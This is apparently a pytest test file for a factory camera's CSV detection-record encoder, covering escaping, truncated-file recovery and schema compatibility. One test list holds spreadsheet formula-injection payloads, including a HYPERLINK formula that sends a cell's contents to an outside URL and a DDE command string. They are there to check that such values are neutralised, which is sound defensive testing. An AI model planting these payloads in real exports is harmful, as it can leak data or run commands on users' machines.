import csv
import hashlib
import io

import pytest

from iris_camera.records.csv_file import (
    COLUMNS,
    HEARTBEAT,
    LINE_BYTES_MAX,
    ClassifierRow,
    HeartbeatRow,
    ModelRow,
    NotARecordError,
    PictureRow,
    RowOrigin,
    encode,
    header,
    utc_time,
    whole_rows,
)

WALL_S = 1795467933.1239  # 2026-11-23 21:05:33.1239 UTC
DETECTION = ModelRow(frame=7, part_id=3, x=10.25, y=20, width=64.004, height=48.5, score=0.98765, label="bolt")
ORIGIN = RowOrigin("line-1", "9f3c01ab", "2026-11-23/a.jpg")


def fields(kind, data):
    return list(csv.DictReader(io.StringIO((header(kind) + data).decode(), newline="")))


def test_a_model_row_is_one_detection():
    (row,) = fields("model", encode([DETECTION], WALL_S, 12.3456789, ORIGIN))
    assert row == {
        "schema_version": "3",
        "frame": "7",
        "utc": "2026-11-23T21:05:33.123Z",
        "monotonic_s": "12.345679",
        "part_id": "3",
        "x_px": "10.25",
        "y_px": "20.00",
        "width_px": "64.00",
        "height_px": "48.50",
        "score": "0.9877",
        "label": "bolt",
        "camera": "line-1",
        "run": "9f3c01ab",
        "file": "2026-11-23/a.jpg",
    }


def test_a_heartbeat_is_a_model_row_of_no_part():
    (row,) = fields("model", encode([HeartbeatRow(7)], WALL_S, 12.3456789, ORIGIN))
    assert {name: text for name, text in row.items() if text} == {
        "schema_version": "3",
        "frame": "7",
        "utc": "2026-11-23T21:05:33.123Z",
        "monotonic_s": "12.345679",
        "label": "heartbeat",
        "camera": "line-1",
        "run": "9f3c01ab",
        "file": "2026-11-23/a.jpg",
    }
    assert row["part_id"] == ""


def test_a_detection_of_a_class_called_heartbeat_is_not_taken_for_one():
    rows = fields("model", encode([DETECTION._replace(label="heartbeat"), HeartbeatRow(8)], WALL_S, 1.0))
    assert [row["part_id"] == "" for row in rows] == [False, True]


def test_a_classifier_row_is_one_part():
    (row,) = fields("classifier", encode([ClassifierRow(7, 3, "defect", 0.5)], WALL_S, 1.0))
    assert (row["part_id"], row["label"], row["score"]) == ("3", "defect", "0.5000")


def test_a_row_without_a_part_is_the_verdict_on_a_whole_picture():
    rows = [ClassifierRow(7, 3, "defect", 0.5), PictureRow(7, "defect", 0.5), PictureRow(8, "nothing", None)]
    found = fields("classifier", encode(rows, WALL_S, 1.0, ORIGIN))
    assert [(row["part_id"], row["label"], row["score"]) for row in found] == [
        ("3", "defect", "0.5000"),
        ("", "defect", "0.5000"),
        ("", "nothing", ""),
    ]
    assert {(row["camera"], row["run"], row["file"]) for row in found} == {ORIGIN}


FORMULAS = [
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "=1+1",
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\n=1",
    "\uff1d1",
    "'=1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_texts_that_a_spreadsheet_takes_for_a_formula_are_marked_as_text_and_can_be_read_back(text):
    origin = ORIGIN._replace(file=text)
    row = fields("model", encode([DETECTION._replace(label=text)], WALL_S, 1.0, origin))[0]
    assert (row["label"], row["file"]) == (f"'{text}", f"'{text}")
    rows = fields("classifier", encode([ClassifierRow(7, 3, text, 0.5), PictureRow(7, text, 0.5)], WALL_S, 1.0, origin))
    assert [(row["label"], row["file"]) for row in rows] == [(f"'{text}", f"'{text}")] * 2


@pytest.mark.parametrize("label", ['a "quoted" one', "a,b", "two\nlines", "ölfleck", "1=1", "a'b", ""])
def test_any_label_can_be_read_back(label):
    data = encode([ClassifierRow(7, 3, label, 0.5)], WALL_S, 1.0)
    assert fields("classifier", data)[0]["label"] == label
    assert whole_rows(io.BytesIO(header("classifier") + data)).rows == 1
    data = encode([DETECTION._replace(label=label)], WALL_S, 1.0)
    assert fields("model", data)[0]["label"] == label
    assert whole_rows(io.BytesIO(header("model") + data)).rows == 1


@pytest.mark.parametrize("label", ["\r=1", "a\rb", "a\r\nb"])
def test_a_carriage_return_in_a_text_breaks_no_row(label):
    data = encode([ClassifierRow(7, 3, label, 0.5)], WALL_S, 1.0, ORIGIN._replace(file=label))
    (row,) = fields("classifier", data)
    assert row["label"] == row["file"] == label.replace("\r", "\\r")
    assert whole_rows(io.BytesIO(header("classifier") + data)).rows == 1


@pytest.mark.parametrize("label", ["half \ud800 a pair", "zero \0 byte"])
def test_a_label_that_is_no_text_does_not_stop_the_recording(label):
    data = encode([ClassifierRow(7, 3, label, 0.5)], WALL_S, 1.0)
    assert whole_rows(io.BytesIO(header("classifier") + data)).rows == 1
    data = encode([DETECTION._replace(label=label)], WALL_S, 1.0)
    assert whole_rows(io.BytesIO(header("model") + data)).rows == 1


def test_a_time_is_never_rounded_up_into_the_future():
    assert utc_time(0.9999).isoformat(timespec="milliseconds") == "1970-01-01T00:00:00.999+00:00"


def good_file(kind="model", rows=3):
    row = DETECTION if kind == "model" else ClassifierRow(7, 3, "good", 0.5)
    return header(kind) + encode([row] * rows, WALL_S, 1.0)


def test_a_whole_file_is_believed_to_its_end():
    data = good_file()
    whole = whole_rows(io.BytesIO(data))
    assert whole == (3, len(data), hashlib.sha256(data).hexdigest())


def test_a_file_cut_anywhere_is_believed_to_its_last_whole_row():
    data = good_file("classifier", 2) + encode([ClassifierRow(8, 4, 'ä "b"\nc, d', 0.5)], WALL_S, 1.0)
    ends = [
        len(header("classifier")),
        len(good_file("classifier", 1)),
        len(good_file("classifier", 2)),
        len(data),
    ]
    for length in range(len(data) + 1):
        whole = whole_rows(io.BytesIO(data[:length]))
        rows = sum(end <= length for end in ends[1:])
        assert whole.rows == rows
        if length >= ends[0]:
            assert whole.size_bytes == ends[rows]
            assert whole.sha256 == hashlib.sha256(data[: ends[rows]]).hexdigest()


@pytest.mark.parametrize(
    "tail",
    [
        b"\0" * 4096,
        b"1,8,2026\0\0\0\0\n",
        b"1,8,2026-11-23T21:05:33.123Z,1.0,3,\xc3\n",
        b"1,8\n",
        b"1" + b",8" * 30 + b"\n",
        b'1,8,"' + b"x" * 100,
        b"y" * (LINE_BYTES_MAX + 10),
    ],
    ids=[
        "zero bytes",
        "zero bytes in a row",
        "half a character",
        "too short",
        "too long",
        "open quote",
        "endless",
    ],
)
def test_bytes_that_a_power_cut_left_behind_the_rows_are_not_believed(tail):
    data = good_file()
    assert whole_rows(io.BytesIO(data + tail)) == whole_rows(io.BytesIO(data))


def test_rows_behind_a_broken_one_are_not_believed_either():
    assert whole_rows(io.BytesIO(good_file(rows=1) + b"\0\0\n" + encode([DETECTION], WALL_S, 1.0))).rows == 1


@pytest.mark.parametrize("data", [b"", header("model"), header("model")[:9], b"schema_ver\0\0\0", b"\0" * 5000])
def test_a_file_that_ends_within_or_behind_its_header_has_no_rows(data):
    assert whole_rows(io.BytesIO(data)).rows == 0


@pytest.mark.parametrize("data", [b"hello\n", b"hello", b"a,b,c\n1,2,3\n", b"\xff\xfe"])
def test_other_content_is_not_taken_for_a_record_file(data):
    with pytest.raises(NotARecordError):
        whole_rows(io.BytesIO(data))


def test_a_file_of_another_schema_is_read_by_its_own_header():
    assert whole_rows(io.BytesIO(b"schema_version,frame,mood\n9,1,fine\n9,2\n")).rows == 1


VERSION_1 = (
    b"schema_version,frame,utc,monotonic_s,part_id,x_px,y_px,width_px,height_px,score\n"
    b"1,7,2026-11-23T21:05:33.123Z,12.345679,3,10.25,20.00,64.00,48.50,0.9877\n"
    b"1,8,2026-11-23T21:05:33.163Z,12.385679,3,11.25,20.00,64.00,48.50,0.9871\n"
)


def test_a_file_of_schema_version_1_cut_anywhere_is_believed_to_its_last_whole_row():
    ends = [index + 1 for index, byte in enumerate(VERSION_1) if byte == ord("\n")]
    for length in range(len(VERSION_1) + 1):
        for tail in (b"", b"\0" * (len(VERSION_1) - length)):
            whole = whole_rows(io.BytesIO(VERSION_1[:length] + tail))
            assert whole.rows == sum(end <= length for end in ends[1:])


def test_a_two_row_file_of_today_with_a_zero_filled_tail_is_believed_to_its_last_whole_row():
    first = header("model") + encode([DETECTION._replace(label="größe, \u6e2c")], WALL_S, 1.0)
    data = first + encode([HeartbeatRow(8)], WALL_S, 1.0)
    for length in range(len(data) + 1):
        for tail in (b"", b"\0" * (len(data) - length), b"\0" * 4096):
            whole = whole_rows(io.BytesIO(data[:length] + tail))
            assert whole.rows == (length >= len(first)) + (length == len(data))


def test_the_two_kinds_have_the_columns_that_were_promised():
    assert COLUMNS["model"][:5] == COLUMNS["classifier"][:5]
    assert COLUMNS["model"][5:] == ("x_px", "y_px", "width_px", "height_px", "score", "label", "camera", "run", "file")
    assert COLUMNS["classifier"][5:] == ("label", "score", "camera", "run", "file")


@pytest.mark.parametrize(
    ("kind", "row", "columns"),
    [
        ("model", DETECTION, "schema_version,frame,utc,monotonic_s,part_id,x_px,y_px,width_px,height_px,score,label"),
        ("model", HeartbeatRow(7), "schema_version,frame,utc,monotonic_s,part_id,x_px"),
        ("classifier", ClassifierRow(7, 3, "bolt", 0.5), "schema_version,frame,utc,monotonic_s,part_id,label,score"),
    ],
)
def test_readers_by_position_of_earlier_schemas_find_what_they_knew_at_its_place(kind, row, columns):
    columns = columns.split(",")
    (line,) = csv.reader(io.StringIO(encode([row], WALL_S, 1.0, ORIGIN).decode(), newline=""))
    by_position = dict(zip(columns, line, strict=False))
    by_name = fields(kind, encode([row], WALL_S, 1.0, ORIGIN))[0]
    assert by_position == {column: by_name[column] for column in columns}
    assert len(line) == len(COLUMNS[kind])
    assert (by_name["label"] == HEARTBEAT) == isinstance(row, HeartbeatRow)
